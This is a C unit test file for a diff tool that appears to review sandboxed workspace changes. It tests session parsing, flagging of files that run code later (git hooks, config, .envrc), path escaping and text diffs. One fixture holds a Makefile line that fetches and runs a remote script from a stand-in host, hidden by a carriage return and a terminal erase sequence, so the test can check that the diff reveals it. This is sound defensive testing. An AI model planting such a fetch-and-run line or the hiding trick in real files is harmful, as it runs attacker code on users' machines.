// UNIT: lib/cow_session.c lib/protect_names.c lib/gitcfg_paths.c lib/gitcfg_join.c cmd/otodiff/textdiff.c cmd/otodiff/parse.c
/*
 * Unit tests of otodiff's pure parts: the session's record, the names the
 * host runs later, the upper layer's entries, the escaped paths, the diff.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include <cmocka.h>

#include "oto.h"
#include "otodiff/otodiff.h"

static void test_session_round_trip(void **state)
{
	static struct cow_session s, r;
	char buf[COW_SESSION_MAX];
	size_t n;

	(void)state;
	s.start_sec = 1796419596;
	s.start_nsec = 930364680;
	s.n = 2;
	strcpy(s.t[0].name, "work");
	s.t[0].dev = 65024;
	s.t[0].ino = 11248307;
	strcpy(s.t[0].host, "/srv/a b/workspace");
	strcpy(s.t[1].name, "private");
	strcpy(s.t[1].host, "/srv/p");
	n = cow_session_format(buf, sizeof(buf), &s);
	assert_int_equal(n, strlen("oto-cow 1\nstart 1796419596.930364680\n"
				   "tree work 65024 11248307 /srv/a b/workspace\n"
				   "tree private 0 0 /srv/p\n"));
	assert_memory_equal(buf, "oto-cow 1\nstart 1796419596.930364680\ntree work 65024", 52);
	assert_int_equal(cow_session_parse(&r, buf, n), 0);
	assert_int_equal(r.n, 2);
	assert_int_equal(r.start_nsec, 930364680);
	assert_string_equal(r.t[0].host, "/srv/a b/workspace");
	assert_int_equal(r.t[0].ino, 11248307);
	/* A control byte in a path cannot be written. */
	strcpy(s.t[1].host, "/srv/p\nq");
	assert_int_equal(cow_session_format(buf, sizeof(buf), &s), 0);
}

static void test_session_rejects(void **state)
{
	static struct cow_session r;
	static const char *const bad[] = {
		"",
		"oto-cow 2\nstart 1.0\ntree work 1 2 /a\n",
		"oto-cow 1\nstart 1.0\n", /* no tree */
		"oto-cow 1\nstart 1.1000000000\ntree work 1 2 /a\n",
		"oto-cow 1\nstart x.0\ntree work 1 2 /a\n",
		"oto-cow 1\nstart 1.0\ntree home 1 2 /a\n",
		"oto-cow 1\nstart 1.0\ntree work 1 2 a\n",
		"oto-cow 1\nstart 1.0\ntree work 1 2 /a", /* no newline */
		"oto-cow 1\nstart 1.0\ntree work 1 2 /a\ntree work 1 2 /b\n",
		"oto-cow 1\nstart 1.0\ntree work 99999999999999999999999 2 /a\n",
		"oto-cow 1\nstart 1.0\ntree work 1  2 /a\n",
		"oto-cow 1\nstart 1.0\ntree work 1 2 /a\tb\n",
		NULL,
	};

	(void)state;
	for (const char *const *b = bad; *b; b++)
		assert_int_equal(cow_session_parse(&r, *b, strlen(*b)), -1);
	assert_int_equal(cow_session_parse(&r, "oto-cow 1\nstart 1.0\ntree work 1 2 /a\0b\n", 36),
			 -1);
}

static void test_runs_later(void **state)
{
	(void)state;
	assert_true(protect_runs_later(".envrc"));
	assert_true(protect_runs_later(".vscode/tasks.json"));
	assert_false(protect_runs_later("src/.envrc")); /* only at the top */
	assert_true(protect_runs_later(".git/hooks/pre-commit"));
	assert_true(protect_runs_later("a/b/.git/config"));
	assert_true(protect_runs_later("sub/.git")); /* a gitdir: file */
	assert_true(protect_runs_later(".git/modules/m/hooks/x"));
	assert_false(protect_runs_later(".git/objects/ab/cd"));
	assert_false(protect_runs_later(".git/modules/m/objects/x"));
	assert_false(protect_runs_later(".gitignore"));
	assert_false(protect_runs_later("x.git/config"));
	assert_false(protect_runs_later(""));
	/* What git follows to other config, hooks or objects. */
	assert_true(protect_runs_later(".git/commondir"));
	assert_true(protect_runs_later("a/.git/gitdir"));
	assert_true(protect_runs_later(".git/objects/info/alternates"));
	assert_true(protect_runs_later(".git/objects/info/http-alternates"));
	assert_false(protect_runs_later(".git/objects/info/packs"));
	assert_false(protect_runs_later(".git/objects/info/commit-graph"));
	assert_true(protect_runs_later(".git/worktrees/w/commondir"));
	assert_true(protect_runs_later(".git/worktrees/w"));
	assert_false(protect_runs_later(".git/worktrees/w/HEAD"));
	assert_false(protect_runs_later(".git/worktrees/w/index"));
	assert_true(protect_runs_later(".git/rebase-merge/git-rebase-todo"));
	assert_true(protect_runs_later(".git/rebase-apply"));
	assert_true(protect_runs_later(".git/sequencer/todo"));
	assert_true(protect_runs_later(".git/modules/m/modules/n/commondir"));
	assert_false(protect_runs_later(".git/modules/m/modules/n/refs/heads/x"));
	/* What git only stores: the explicit list, and nothing else. */
	assert_false(protect_runs_later(".git/refs/heads/main"));
	assert_false(protect_runs_later(".git/logs/HEAD"));
	assert_false(protect_runs_later(".git/index"));
	assert_false(protect_runs_later(".git/HEAD"));
	assert_false(protect_runs_later(".git/ORIG_HEAD"));
	assert_false(protect_runs_later(".git/FETCH_HEAD"));
	assert_false(protect_runs_later(".git/packed-refs"));
	assert_false(protect_runs_later(".git/COMMIT_EDITMSG"));
	assert_false(protect_runs_later(".git/description"));
	assert_true(protect_runs_later(".git/MERGE_MSG"));
	assert_true(protect_runs_later(".git/lfs/x"));
	assert_true(protect_runs_later(".git/HEADS"));
	assert_true(protect_runs_later(".git/X_HEAD/y"));
	assert_true(protect_runs_later(".git/_HEAD"));
	assert_true(protect_runs_later(".git"));
	/* The hook managers' files, at any depth. */
	assert_true(protect_runs_later(".husky/pre-commit"));
	assert_true(protect_runs_later("pkg/.pre-commit-config.yaml"));
	assert_true(protect_runs_later("lefthook.yml"));
	assert_false(protect_runs_later("husky/pre-commit"));
	/* Why each watched path matters, as otons says it. */
	assert_string_equal(protect_why("commondir"),
			    "git takes config and hooks from the directory it names");
	assert_string_equal(protect_why(".husky"),
			    "the hooks a hook manager installed run what it says");
	assert_string_equal(protect_why(""), "the repository's config names it "
					     "(core.hooksPath, include.path, a command)");
	for (const char *const *n = protect_gitdir; *n; n++)
		assert_string_not_equal(protect_why(*n), protect_why(""));
}

struct seen {
	char text[1024];
};

static void on_path(void *arg, enum gitcfg_kind kind, const char *val)
{
	struct seen *s = arg;
	static const char *const K[] = { "hooks", "include", "worktree", "command" };
	size_t n = strlen(s->text);

	snprintf(s->text + n, sizeof(s->text) - n, "%s=%s|", K[kind], val);
}

static const char *cfg(const char *text, int *rc)
{
	static struct seen s;

	s.text[0] = 0;
	*rc = gitcfg_paths(text, strlen(text), on_path, &s);
	return s.text;
}

static void test_gitcfg_paths(void **state)
{
	int rc;

	(void)state;
	assert_string_equal(cfg("[core]\n\thooksPath = .husky\n", &rc), "hooks=.husky|");
	assert_int_equal(rc, 0);
	assert_string_equal(cfg("[CORE]\nHOOKSPATH=\".hu\\\"sky\" ; c\n", &rc), "hooks=.hu\"sky|");
	assert_string_equal(cfg("[include]\n\tpath = ../project.gitconfig\n"
				"[includeIf \"gitdir:/x/\"]\n\tpath = a b.cfg # c\n",
				&rc),
			    "include=../project.gitconfig|include=a b.cfg|");
	/* A command's first word, when it is a path. */
	assert_string_equal(cfg("[core]\n\tfsmonitor = ./tools/fsmon --x\n"
				"\tfsmonitor = true\n\tpager = less\n"
				"[filter \"lfs\"]\n\tclean = scripts/clean %f\n"
				"[alias]\n\tst = !bin/st\n",
				&rc),
			    "command=./tools/fsmon|command=scripts/clean|command=bin/st|");
	/* A key on the section's line, the old subsection form, a continued line. */
	assert_string_equal(cfg("[core] hooksPath = h\n[filter.x]\nsmudge = a/\\\nb\n", &rc),
			    "hooks=h|command=a/b|");
	/* include.path in a subsection is not include.path; filter.clean without one is nothing. */
	assert_string_equal(cfg("[include \"x\"]\npath = p\n[filter]\nclean = a/b\n", &rc), "");
	/* Malformed: what came before is passed, -1. */
	assert_string_equal(cfg("[core]\nhooksPath = h\n[core\nx = y\n", &rc), "hooks=h|");
	assert_int_equal(rc, -1);
	cfg("[core]\nhooksPath = \"h\n", &rc);
	assert_int_equal(rc, -1);
	cfg("hooksPath = h\n", &rc);
	assert_int_equal(rc, -1);
	cfg("[core]\nhooksPath = h\\q\n", &rc);
	assert_int_equal(rc, -1);
}

static void test_gitcfg_join(void **state)
{
	char out[16];

	(void)state;
	assert_int_equal(gitcfg_join(out, sizeof(out), "a/.git", "../project.gitconfig"), -1);
	assert_int_equal(gitcfg_join(out, sizeof(out), "a/.git", "../p.cfg"), 0);
	assert_string_equal(out, "a/p.cfg");
	assert_int_equal(gitcfg_join(out, sizeof(out), ".git", "../p"), 0);
	assert_string_equal(out, "p");
	assert_int_equal(gitcfg_join(out, sizeof(out), "", "./.husky/"), 0);
	assert_string_equal(out, ".husky");
	assert_int_equal(gitcfg_join(out, sizeof(out), "", "."), 0);
	assert_string_equal(out, "");
	assert_int_equal(gitcfg_join(out, sizeof(out), ".git", "../.."), -1);
	assert_int_equal(gitcfg_join(out, sizeof(out), "", "/etc/x"), -1);
	assert_int_equal(gitcfg_join(out, sizeof(out), "", "~/x"), -1);
	assert_int_equal(gitcfg_join(out, sizeof(out), "", "0123456789abcdef"), -1);
	assert_int_equal(gitcfg_join(out, sizeof(out), "a//b", "c/../../d"), 0);
	assert_string_equal(out, "a/d");
}

static void test_upper_kind(void **state)
{
	(void)state;
	assert_int_equal(upper_kind(S_IFCHR, makedev(0, 0), NULL, 0), U_WHITEOUT);
	assert_int_equal(upper_kind(S_IFCHR, makedev(1, 3), NULL, 0), U_DEVICE);
	assert_int_equal(upper_kind(S_IFBLK, makedev(0, 0), NULL, 0), U_DEVICE);
	assert_int_equal(upper_kind(S_IFDIR | 0755, 0, "y", 1), U_OPAQUE_DIR);
	assert_int_equal(upper_kind(S_IFDIR | 0755, 0, "x", 1), U_DIR);
	assert_int_equal(upper_kind(S_IFDIR | 0755, 0, "yy", 2), U_DIR);
	assert_int_equal(upper_kind(S_IFDIR | 0755, 0, NULL, 0), U_DIR);
	assert_int_equal(upper_kind(S_IFREG | 04755, 0, NULL, 0), U_SETID);
	assert_int_equal(upper_kind(S_IFREG | 02755, 0, NULL, 0), U_SETID);
	assert_int_equal(upper_kind(S_IFREG | 01755, 0, NULL, 0), U_FILE);
	assert_int_equal(upper_kind(S_IFLNK | 0777, 0, NULL, 0), U_LINK);
	assert_int_equal(upper_kind(S_IFIFO | 0644, 0, NULL, 0), U_OTHER);
	assert_int_equal(upper_kind(S_IFSOCK | 0644, 0, NULL, 0), U_OTHER);
}

/* What f wrote, as a string (the caller frees). */
static char *written(void (*fn)(FILE *, const void *), const void *arg)
{
	char *p = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&p, &n);

	fn(f, arg);
	fclose(f);
	return p;
}

static void show(FILE *f, const void *s)
{
	path_show(f, s);
}

static void test_path_show(void **state)
{
	char *p;

	(void)state;
	p = written(show, "/work/a\nb\tc\\d\001\177é");
	assert_string_equal(p, "/work/a\\nb\\tc\\\\d\\001\\177\\303\\251");
	free(p);
	/* U+202E (right-to-left override), a C1 CSI, invalid UTF-8, U+200B (zero width). */
	p = written(show, "/work/x\u202Etxt.exe\x9b"
			  "2Jy\xff\xc3z\u200B");
	assert_string_equal(p, "/work/x\\342\\200\\256txt.exe\\2332Jy\\377\\303z\\342\\200\\213");
	free(p);
	assert_string_equal(path_shown("a\033[2Kb\\"), "a\\033[2Kb\\\\");
	assert_int_equal(text_plain("a\tb ~", 5, 1), 1);
	assert_int_equal(text_plain("a\tb", 3, 0), 0);
	assert_int_equal(text_plain("a\177", 2, 1), 0);
	assert_int_equal(text_plain("\xc2\xa0", 2, 1), 0);
}

struct two {
	const char *a, *b;
	int r;
};

static void diff(FILE *f, const void *arg)
{
	struct two *t = (struct two *)arg;

	t->r = textdiff(f, t->a, strlen(t->a), t->b, strlen(t->b));
}

static void expect_diff(const char *a, const char *b, const char *want)
{
	struct two t = { a, b, 0 };
	char *p = written(diff, &t);

	assert_int_equal(t.r, 0);
	assert_string_equal(p, want);
	free(p);
}

static void test_textdiff(void **state)
{
	(void)state;
	expect_diff("a\nb\nc\n", "a\nb\nc\n", "");
	expect_diff("one\ntwo\nthree\n", "one\nTWO\nthree\n",
		    "@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n");
	expect_diff("", "x\n", "@@ -0,0 +1 @@\n+x\n");
	expect_diff("x\n", "", "@@ -1 +0,0 @@\n-x\n");
	expect_diff("a\nb", "a\nb\n",
		    "@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n");
	/* Two hunks: the changes are more than twice the context apart. */
	expect_diff("1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n", "x\n2\n3\n4\n5\n6\n7\n8\n9\ny\n",
		    "@@ -1,4 +1,4 @@\n-1\n+x\n 2\n 3\n 4\n@@ -7,4 +7,4 @@\n 7\n 8\n 9\n-10\n+y\n");
	/*
	 * A CR and an erase-line sequence would redraw the terminal's line over
	 * the command: escaped, the line marked; a TAB stays; a clean line with
	 * a backslash is as it is.
	 */
	expect_diff(
	    "all:\n",
	    "all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n\tx\\y\n",
	    "@@ -1 +1,3 @@\n all:\n"
	    "!+\tcurl -s http://evil.example/x | sh #\\015\\033[2K+\t@echo building\n"
	    "+\tx\\y\n");
	expect_diff("a\n", "\xe2\x80\xae\\b",
		    "@@ -1 +1 @@\n-a\n!+\\342\\200\\256\\\\b\n\\ No newline at end of file\n");
	/* One hunk when they are closer. */
	expect_diff("1\n2\n3\n4\n5\n6\n7\n", "x\n2\n3\n4\n5\n6\ny\n",
		    "@@ -1,7 +1,7 @@\n-1\n+x\n 2\n 3\n 4\n 5\n 6\n-7\n+y\n");
}

static void test_textdiff_bounds(void **state)
{
	size_t n = 3000 * 2;
	char *a = malloc(n + 1), *b = malloc(n + 1);
	char *p = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&p, &len);

	(void)state;
	/* 3000 lines against 3000 others: 9 million cells, past the bound of 4 million. */
	for (size_t i = 0; i < n; i += 2) {
		a[i] = 'a', b[i] = 'b';
		a[i + 1] = b[i + 1] = '\n';
	}
	a[n] = b[n] = 0;
	assert_int_equal(textdiff(f, a, n, b, n), -1);
	fclose(f);
	free(p);
	free(a);
	free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_session_round_trip), cmocka_unit_test(test_session_rejects),
		cmocka_unit_test(test_runs_later),	   cmocka_unit_test(test_gitcfg_paths),
		cmocka_unit_test(test_gitcfg_join),	   cmocka_unit_test(test_upper_kind),
		cmocka_unit_test(test_path_show),	   cmocka_unit_test(test_textdiff),
		cmocka_unit_test(test_textdiff_bounds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
